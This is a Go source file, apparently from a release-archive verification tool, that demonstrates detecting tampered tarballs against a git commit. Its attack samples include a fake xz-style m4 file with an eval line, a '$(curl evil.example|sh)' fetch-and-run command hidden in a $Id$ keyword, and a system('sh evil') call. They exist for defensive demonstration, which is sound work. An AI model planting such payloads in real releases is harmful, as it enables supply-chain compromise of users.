// Package demonstration wires up `countermark demo`: a small project is made,
// built and verified before the user's eyes, and attacked; then those who have to
// vouch for its release do, and what they do not vouch for is shipped all the same.
// Each step is held to the exit status that it must have. Long answers are
// shortened to the lines that matter.
package demonstration

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"

	"github.com/countermark/countermark/internal/report"
	"github.com/countermark/countermark/internal/verification"
)

// Options say how to show it.
type Options struct {
	// Keep is the new folder to work in, which is left there; empty: a
	// temporary one.
	Keep string
	// Out is where it is shown; Style, how. Style also decides on the style of
	// what Verify prints.
	Out   io.Writer
	Style report.Style
	// Verify carries out one verification, prints what `countermark verify`
	// prints, and returns its exit status.
	Verify func(context.Context, verification.Options, report.Style, io.Writer) int
}

// The exit statuses that are shown, as cmp(1) has them.
const (
	holds      = 0
	doesNot    = 1
	noVerdict  = 2
	incomplete = 3
)

// indent sets off what a command prints.
const indent = "    "

// demo is one showing: every step prints a command, runs it, and holds it to
// the exit status that it must have.
type demo struct {
	Options
	dir   string
	built bool  // the archive was built, and so there are statements about it
	err   error // of writing to Out, the first
}

// attack is one way to tamper with the release.
type attack struct {
	title   string // what the attacker does
	why     string // what gives it away
	members func(release) release
	exit    int
}

// allAttacks is how many there are with those on who vouches.
const allAttacks = 7

var attacks = []attack{
	{
		title: "An attacker adds a file that looks generated, as in xz 5.6.0: m4/build-to-host.m4.",
		why:   "No commit holds it, and its serial number beats that of every known release: it is named first.",
		members: func(r release) release {
			return r.with(member{name: "m4/build-to-host.m4", content: "dnl serial 30\neval \"$gl_path_map\" < tests/good-large_compressed.lzma\n"})
		},
		exit: doesNot,
	},
	{
		title: "An attacker hides a command inside $Id$, which git status never looks into.",
		why:   "git writes one thing there: the id of the committed file. Anything else is a changed file.",
		members: func(r release) release {
			return r.change("hello.c", func(s string) string { return strings.Replace(s, "$Id: ", "$Id: $(curl evil.example|sh) ", 1) })
		},
		exit: doesNot,
	},
	{
		title:   "An attacker leaves out the test that would have caught them.",
		why:     "Untarring over a checkout keeps the old copy, so git sees nothing. Both sides are listed here.",
		members: func(r release) release { return r.without("tests/check.sh") },
		exit:    doesNot,
	},
	{
		title: "An attacker puts a file in twice: some tools take the first, others the last.",
		why:   "An archive that can be read in two ways is refused, with the rule, the name and the place.",
		members: func(r release) release {
			return append(release{{name: "hello.c", content: "int main(void) { return system(\"sh evil\"); }\n"}}, r...)
		},
		exit: noVerdict,
	},
}

// Run shows the whole story. No error means that every step went as it must.
func Run(ctx context.Context, o Options) (err error) {
	d := &demo{Options: o, dir: o.Keep}
	d.Style.Brief = true
	d.Style.Width = max(0, d.Style.Width-len(indent))
	if o.Keep == "" {
		if d.dir, err = os.MkdirTemp("", "countermark-demo-*"); err != nil {
			return fmt.Errorf("making a temporary folder: %w", err)
		}
		defer func() { err = errors.Join(err, os.RemoveAll(d.dir)) }()
	} else if err := os.Mkdir(o.Keep, 0o755); err != nil {
		return report.UsageFailure("name a folder that does not exist yet", "--keep: %v", err)
	}
	if d.dir, err = filepath.Abs(d.dir); err != nil {
		return fmt.Errorf("finding the demo's folder: %w", err)
	}
	if err := d.makeKeys(); err != nil {
		return err
	}
	project, err := d.makeProject(ctx, ProjectRepo)
	if err != nil {
		return err
	}
	good, err := d.release(ctx, project)
	if err != nil {
		return err
	}
	if err := d.tamper(ctx, good); err != nil {
		return err
	}
	if err := d.vouch(ctx); err != nil {
		return err
	}
	if err := os.RemoveAll(d.path(buildsFolder)); err != nil {
		return fmt.Errorf("removing the folder of builds: %w", err)
	}
	d.heading(fmt.Sprintf("All %s were caught. Now a release of your own:", map[int]string{len(attacks): "four", allAttacks: "seven"}[d.attacks()]))
	d.say("  countermark verify NAME-VERSION.tar.gz --repo PATH-OR-URL")
	if o.Keep != "" {
		d.say("  The project and the last archive are in %s.", o.Keep)
	}
	return d.err
}

// tamper shows the attacks on the archive.
func (d *demo) tamper(ctx context.Context, good release) error {
	for i, a := range attacks {
		d.attackHeading(i, a.title)
		if err := a.members(good).write(d.path(archiveName)); err != nil {
			return err
		}
		if err := d.verify(ctx, a.exit); err != nil {
			return err
		}
		d.say("  → %s", a.why)
	}
	return nil
}

// attacks returns how many attacks can be shown here.
func (d *demo) attacks() int {
	if d.canVouch() {
		return allAttacks
	}
	return len(attacks)
}

func (d *demo) attackHeading(i int, title string) {
	d.heading(fmt.Sprintf("Attack %d of %d. %s", i+1, d.attacks(), title))
}

// release shows the honest release, from tag to lock file.
func (d *demo) release(ctx context.Context, project *demoProject) (release, error) {
	d.heading("A project, hello, with one generated file. Its release 1.0 is tagged v1.0 in git.")
	d.say("  %s  refs/tags/v1.0 = commit %s", project.name, project.commit[:12])
	d.say("  %s  the files of that commit, and words.h, generated from words.txt", archiveName)
	good := project.release()
	if err := d.makeArchive(ctx, good); err != nil {
		return nil, err
	}
	d.heading("Somebody downloads the archive. Is it exactly that commit?")
	if err := d.verify(ctx, doesNot); err != nil {
		return nil, err
	}
	d.say("  → filtered: git itself wrote its id into hello.c, as $Id$ asks. That is checked, and no difference.")
	d.say("  → added: the commit is all there, and one file more. A packager reads it, once, and records it.")
	d.heading("The accepted difference goes into countermark.lock, to be kept beside the package.")
	if err := d.verify(ctx, doesNot, "--update-lock"); err != nil {
		return nil, err
	}
	if err := d.verify(ctx, holds); err != nil {
		return nil, err
	}
	d.say("  → From now on this passes, and anything new or different fails.")
	return good, nil
}

// verify runs the command in the demo's folder and holds it to an exit status.
func (d *demo) verify(ctx context.Context, want int, flags ...string) error {
	d.command(append([]string{"verify", archiveName, "--repo", ProjectRepo}, flags...)...)
	var out bytes.Buffer
	got := d.Verify(ctx, d.verification(len(flags) > 0), d.Style, &out)
	if err := errors.Join(ctx.Err(), d.err); err != nil {
		return err
	}
	return d.answer(out.String(), got, want)
}

// verification returns what to verify.
func (d *demo) verification(updateLock bool) verification.Options {
	return verification.Options{
		Archives: []string{d.path(archiveName)}, Repository: d.path(ProjectRepo), Lock: d.path(verification.LockFileName),
		MayLackLock: true, UpdateLock: updateLock, Decoder: "go",
	}
}

// answer shows what a command printed, and holds it to an exit status.
func (d *demo) answer(printed string, got, want int) error {
	for line := range strings.Lines(strings.ReplaceAll(printed, d.dir+string(filepath.Separator), "")) {
		d.say("%s%s", indent, strings.TrimSuffix(line, "\n"))
	}
	d.say("%sexit status %d", indent, got)
	if got != want {
		return &report.Failure{Code: report.Internal, Detail: fmt.Sprintf("the demo expected exit status %d here; this is a defect of countermark", want)}
	}
	return nil
}

// command shows the command that is run.
func (d *demo) command(words ...string) {
	d.say("%s", d.bold("  $ countermark "+strings.Join(words, " ")))
}

func (d *demo) path(name string) string { return filepath.Join(d.dir, name) }

func (d *demo) heading(s string) { d.say("\n%s", d.bold(s)) }

func (d *demo) bold(s string) string {
	if d.Style.Color {
		return "\x1b[1m" + s + "\x1b[0m"
	}
	return s
}

// say prints a line as it happens: watching is the point.
func (d *demo) say(format string, args ...any) {
	if _, err := fmt.Fprintf(d.Out, format+"\n", args...); err != nil && d.err == nil {
		d.err = fmt.Errorf("writing what the demo shows: %w", err)
	}
}
